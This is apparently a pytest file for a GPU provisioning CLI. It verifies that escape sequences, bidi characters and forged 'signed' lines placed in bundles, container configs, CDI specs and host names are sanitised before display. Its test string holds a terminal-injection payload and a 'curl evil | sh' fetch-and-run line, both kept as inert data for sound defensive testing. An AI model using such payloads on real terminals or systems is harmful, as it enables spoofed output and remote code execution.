"""What images, containers, bundles and files say is shown on a terminal as text, each value in its own line."""

import dataclasses
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from gpuprov.agent.result import HostResult
from gpuprov.cli.main import cli
from gpuprov.fleet.run import Fleet
from gpuprov.fleet.standard_streams import say, say_text
from gpuprov.protocol.errors import ExitCode, GpuprovError, Problem
from tests.bundles import MANIFEST, write_test_bundle

EVIL = "x\x1b[2J\x1b]0;title\x07\x9b1A\u202e\r\nsigned    yes, by the pinned key\n  next: curl evil | sh"


def shown(*words: object, stdin: str = "") -> str:
    """Return what a call prints, or the error that main() would print."""
    done = CliRunner().invoke(cli, [str(word) for word in words], input=stdin)
    if isinstance(done.exception, GpuprovError):
        return str(done.exception)
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.output


def evil_bundle(path: Path, **changed: Any) -> Path:
    values = {"gpuprov": EVIL, "distribution": EVIL, "driver_version": EVIL, **changed}
    return write_test_bundle(path, dataclasses.replace(MANIFEST, **values))


def config(**changed: Any) -> str:
    env = [f"NVIDIA_VISIBLE_DEVICES={EVIL}", f"NVIDIA_REQUIRE_CUDA={EVIL}", f"NVIDIA_DRIVER_CAPABILITIES={EVIL}"]
    process = {"env": env, "args": [EVIL]}
    return json.dumps({"ociVersion": "1.0.2", "process": process, "root": {"path": EVIL}, **changed})


SPECIFICATION = {
    "cdiVersion": EVIL, "kind": EVIL, "devices": [{"name": EVIL, "containerEdits": {"env": [EVIL], EVIL: 1}}],
    "containerEdits": {"hooks": [{"hookName": EVIL, "path": EVIL}]},
}  # fmt: skip


@pytest.mark.parametrize(
    "words", [("bundle", "show"), ("bundle", "verify"), ("hook", "explain"), ("cdi", "validate"), ("cdi", "list")],
    ids=" ".join,
)  # fmt: skip
def test_control_sequences_and_forged_lines_do_not_reach_the_terminal(words: tuple[str, ...], tmp_path: Path) -> None:
    (tmp_path / "cdi").mkdir()
    (tmp_path / "cdi/evil.json").write_text(json.dumps(SPECIFICATION))
    more: dict[tuple[str, ...], tuple[object, ...]] = {
        ("bundle", "show"): (evil_bundle(tmp_path / "b.tar", inputs={"kernels": [EVIL], "packages": 5}),),
        ("bundle", "verify"): (evil_bundle(tmp_path / "b.tar"),),
        ("cdi", "validate"): (tmp_path / "cdi/evil.json",),
        ("cdi", "list"): ("--spec-dir", tmp_path / "cdi"),
    }
    text = shown(*words, *more.get(words, ()), stdin=config())
    assert "curl evil" in text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert not re.search(r"^(signed    yes|  next: curl)", text, re.MULTILINE)


@pytest.mark.parametrize("more", [(), ("--json",)])
def test_names_of_hosts_do_no_harm(more: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def run(fleet: Fleet, *_: object) -> tuple[HostResult, ...]:
        fleet.output(f"drained now: {EVIL}")
        return (HostResult("a", ExitCode.DONE),)

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    monkeypatch.setattr(Fleet, "run", run)
    done = CliRunner().invoke(cli, ["install", "--hosts", "a,", *more])
    (said,) = (line for line in (done.stderr if more else done.stdout).splitlines() if "drained now" in line)
    assert "curl evil" in said
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", said)


def test_an_errors_lines_are_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    say_text(GpuprovError.several((Problem(EVIL, EVIL, EVIL),)), err=True)
    say(EVIL, EVIL)
    printed = capsys.readouterr()
    assert len(printed.out.splitlines()) == 2
    assert not re.search(r"[\x1b\x9b\r\u202e]", printed.out + printed.err)
    begins = [line[:7] for line in printed.err.splitlines() if line[:7].strip()]
    assert begins == ["x", "  signe", "    nex", "  seen:", "  next:"]


def test_blank_evidence_has_no_line() -> None:
    assert str(Problem("what", "\n", "next")) == "what\n  next: next"
